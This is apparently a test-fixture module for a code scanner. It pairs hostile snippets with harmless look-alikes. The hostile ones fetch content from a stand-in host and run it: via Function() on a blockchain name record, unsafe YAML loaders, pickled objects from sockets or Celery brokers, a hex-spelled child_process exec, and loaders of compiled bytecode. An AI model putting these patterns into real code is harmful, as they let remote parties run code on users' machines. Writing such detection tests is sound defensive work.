"""Samples and twins of data that makes objects, or code that was compiled, as it arrives."""

from inspection.rules.sample import Sample, js, py

_GET = "requests.get('https://a.invalid').text"


def _compiled(loader: str, file: str) -> dict[str, str | bytes]:
    return {
        "a/__init__.py": "import importlib.machinery as m, os\n"
        f"m.{loader}('b', os.path.join(os.path.dirname(__file__), '{file}')).load_module()\n",
        "a/b.py": "B = 1\n",
        "a/c.pyc": b"o\r\r\n\0\0\0\0",
    }


_NAMED = (
    "import { JsonRpcProvider } from 'ethers';\n"
    "const resolver = await new JsonRpcProvider('https://a.invalid').getResolver('a.eth');\n"
    "const text = await resolver.getText('description');\n"
)

_WORKER = "broker_url = 'redis://a:b@queue.a.invalid:6379/0'\ntask_serializer = '{each}'\naccept_content = ['{each}']\n"

_SPELT = "const names = ['6874747073', '{}', '75746638']\nconst spelt = (text) => Buffer.from(text, 'hex').toString()\n"

HOSTILE: dict[str, dict[str, Sample]] = {
    "remote_code": {
        "what a name on a chain says of itself": js(f"{_NAMED}Function(text)();\n", line=4),
    },
    "remote_object": {
        "ruamel's unsafe reader, kept by an object": py(
            "import requests\nfrom ruamel.yaml import YAML\nclass A:\n    def __init__(self):\n"
            f"        self.y = YAML(typ='unsafe')\n    def f(self):\n        return self.y.load({_GET})\n",
            line=7,
        ),
        "ruamel's old functions": py(
            f"import ruamel.yaml, requests\nruamel.yaml.load({_GET}, Loader=ruamel.yaml.UnsafeLoader)\n"
        ),
        "a loader of YAML by itself": py(f"import yaml, requests\nyaml.UnsafeLoader({_GET}).get_data()\n"),
        "objects from a message socket": py(
            "import zmq\ns = zmq.Context().socket(zmq.REQ)\ns.connect('tcp://a.invalid:1')\ns.recv_pyobj()\n", line=4
        ),
        "objects from another process's listener": py(
            "from multiprocessing.connection import Client\nwith Client(('a.invalid', 1)) as c:\n    c.recv()\n", line=3
        ),
        "a worker whose queue may send pickles": py(_WORKER.format(each="pickle"), "review", line=3),
        "the same, by members of its settings": py(
            "from celery import Celery\na = Celery('a', broker='amqp://queue.a.invalid')\n"
            "a.conf.update(accept_content=['json', 'pickle'])\n",
            "review",
            line=3,
        ),
        "a library that unpickles what is packed": py(
            "import compress_pickle, requests\n"
            "compress_pickle.loads(requests.get('https://a.invalid').content, 'gzip')\n"
        ),
    },
    "decoded_code": {
        "the name of a module that starts programs": js(
            _SPELT.format("6368696c645f70726f63657373") + "require(spelt(names[1])).exec('echo a')\n", "review", line=3
        ),
    },
    "unread_code": {
        "a loader of compiled code is given the file": Sample(
            _compiled("SourcelessFileLoader", "c.pyc"), "review", ("a/c.pyc", 0)
        ),
        "code that V8 compiled": Sample(
            {"a.js": "require('bytenode')\nrequire('./b.jsc')\n", "b.jsc": b"\xc0\xde\0\0"}, "review", ("b.jsc", 0)
        ),
    },
}

HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
    "remote_code": {
        "what a name on a chain says of itself is shown": js(f"{_NAMED}console.log(text);\n").files,
    },
    "remote_object": {
        "ruamel's usual reader": {"a.py": f"import requests\nfrom ruamel.yaml import YAML\nYAML().load({_GET})\n"},
        "ruamel's safe reader": {
            "a.py": f"import requests\nfrom ruamel.yaml import YAML\nYAML(typ='safe').load({_GET})\n"
        },
        "ruamel's old functions, keeping comments": {
            "a.py": f"import ruamel.yaml, requests\nruamel.yaml.load({_GET}, Loader=ruamel.yaml.RoundTripLoader)\n"
        },
        "a worker whose queue may send JSON": py(_WORKER.format(each="json")).files,
        "a worker whose own queue may send pickles": py(
            _WORKER.format(each="pickle").replace("queue.a.invalid", "redis")
        ).files,
        "plain data from a message socket": {
            "a.py": "import zmq\ns = zmq.Context().socket(zmq.REQ)\ns.connect('tcp://a.invalid:1')\ns.recv_json()\n"
        },
        "objects from another process of this machine": {
            "a.py": "from multiprocessing.connection import Client, Listener\nlistener = Listener()\n"
            "with Client(listener.address) as c:\n    print(c.recv(), listener.accept().recv())\n"
        },
        "bytes from another process's listener": {
            "a.py": "from multiprocessing.connection import Client\nwith Client(('a.invalid', 1)) as c:\n"
            "    print(c.recv_bytes())\n"
        },
    },
    "unread_code": {
        "a loader of sources is given one": {
            path: data for path, data in _compiled("SourceFileLoader", "b.py").items() if path != "a/c.pyc"
        },
    },
    "decoded_code": {
        "the names of a standard module and of an encoding": {
            "a.js": _SPELT.format("68747470733a2f2f612e696e76616c6964")
            + "require(spelt(names[0])).get(spelt(names[1]), "
            "(reply) => { reply.setEncoding(spelt(names[2])); reply.on('data', console.log) })\n",
        },
        "the name of a standard module of Python": {
            "a.py": "import base64\nprint(__import__(base64.b64decode('emxpYg==').decode()).crc32(b'a'))\n",
        },
    },
    "hidden_text": {
        "a letter that is not seen, to compare with": {
            "package.json": '{"main": "a.js"}',
            "a.js": "exports.isFiller = (letter) => letter === '\u3164'\n",
        },
    },
}
